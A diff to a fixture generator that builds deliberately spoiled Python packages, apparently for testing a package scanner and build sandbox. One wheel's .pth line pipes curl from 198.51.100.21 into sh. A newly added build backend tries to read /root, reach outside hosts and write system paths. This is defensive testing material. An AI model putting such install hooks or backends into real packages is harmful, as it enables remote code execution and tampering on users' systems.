@@ -6,6 +6,7 @@ correct RECORD, tarfile for sdists), then spoiled in one way:
 
   cordon_clean-1.0-py3-none-any.whl      nothing to find
   cordon_app-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-clean>=1.0 (for a resolver)
+  cordon_dep-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-yanked==1.0 (a yanked dependency)
   cordon_pth-1.0-py3-none-any.whl        a .pth whose import line runs os.system (pth-code, high)
   cordon_liar-1.0-py3-none-any.whl       METADATA says requests 2.32.3
   cordon_tampered-1.0-py3-none-any.whl   a module changed after RECORD was written
@@ -26,6 +27,9 @@ correct RECORD, tarfile for sdists), then spoiled in one way:
   cordon_utf8-1.0-py3-none-any.whl       a member named café.py (UTF-8 flag): nothing wrong
   cordon_link-1.0.tar.gz                 an sdist with a symlink member
   cordon_sdist-1.0.tar.gz                a clean sdist
+  cordon_built-1.0.tar.gz                a clean sdist with an in-tree PEP 517 backend (no build requirements)
+  cordon_evil-1.0.tar.gz                 the same shape, whose build tries to read /root, reach the index and
+                                         198.51.100.20, write the store and /usr, says how each went, and fails
 
 usage: make_packages.py OUT
 """
@@ -86,6 +90,7 @@ def sdist(name, version, files, links=()):
 module = b'"""A clean module."""\n\ndef answer():\n    return 42\n'
 wheel("cordon_clean", "1.0", {"cordon_clean/__init__.py": module})
 wheel("cordon_app", "1.0", {"cordon_app/__init__.py": b"from cordon_clean import answer\n"}, requires=["cordon-clean>=1.0"])
+wheel("cordon_dep", "1.0", {"cordon_dep/__init__.py": module}, requires=["cordon-yanked==1.0"])
 wheel("cordon_pth", "1.0", {"cordon_pth/__init__.py": module,
                             "cordon_pth.pth": b'import os; os.system("curl -s http://198.51.100.21/x | sh")\n'})
 wheel("cordon_liar", "1.0", {"cordon_liar/__init__.py": module}, meta_name="requests", meta_version="2.32.3")
@@ -130,3 +135,59 @@ sdist("cordon_link", "1.0", {"setup.py": b"from setuptools import setup\nsetup()
 sdist("cordon_sdist", "1.0", {"setup.py": b"from setuptools import setup\nsetup(name='cordon-sdist', version='1.0')\n",
                               "cordon_sdist/__init__.py": module})
 print(out)
+
+
+# In-tree PEP 517 backends: what `pip wheel --no-build-isolation` runs in the build sandbox.
+BACKEND = b'''"""An in-tree build backend: writes the wheel by hand (stdlib only)."""
+import base64, hashlib, os, zipfile
+
+NAME, VERSION = "cordon_built", "1.0"
+
+
+def _digest(data):
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    dist = f"{NAME}-{VERSION}.dist-info"
+    here = os.path.dirname(os.path.abspath(__file__))
+    files = {f"{NAME}/__init__.py": open(os.path.join(here, NAME, "__init__.py"), "rb").read(),
+             f"{dist}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME.replace('_', '-')}\\nVersion: {VERSION}\\n\\n".encode(),
+             f"{dist}/WHEEL": b"Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n\\n"}
+    record = "".join(f"{p},{_digest(b)},{len(b)}\\n" for p, b in files.items()) + f"{dist}/RECORD,,\\n"
+    files[f"{dist}/RECORD"] = record.encode()
+    name = f"{NAME}-{VERSION}-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
+        for p, b in files.items():
+            z.writestr(p, b)
+    return name
+'''
+PYPROJECT = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+sdist("cordon_built", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "cordon_built/__init__.py": module})
+
+EVIL = b'''"""A build backend that attacks the build sandbox, says how each attempt went, and fails."""
+import os, socket, sys, urllib.request
+
+
+def _attempt(what, action):
+    try:
+        action()
+        print(f"attack: {what}: succeeded", file=sys.stderr)
+    except BaseException as e:
+        print(f"attack: {what}: refused: {type(e).__name__}: {e}", file=sys.stderr)
+
+
+def _write(path):
+    with open(path, "w") as f:
+        f.write("cordon-evil was here")
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    _attempt("read /root", lambda: os.listdir("/root"))
+    _attempt("reach http://index.test/", lambda: urllib.request.urlopen("http://index.test/simple/", timeout=5))
+    _attempt("reach 198.51.100.20:80", lambda: socket.create_connection(("198.51.100.20", 80), timeout=5))
+    _attempt("write the store", lambda: _write("/var/lib/cordon/store/blobs/cordon-evil"))
+    _attempt("write /usr", lambda: _write("/usr/lib/python3/dist-packages/cordon_evil_was_here.py"))
+    raise SystemExit("cordon-evil: giving up")
+'''
+sdist("cordon_evil", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": EVIL, "cordon_evil/__init__.py": module})
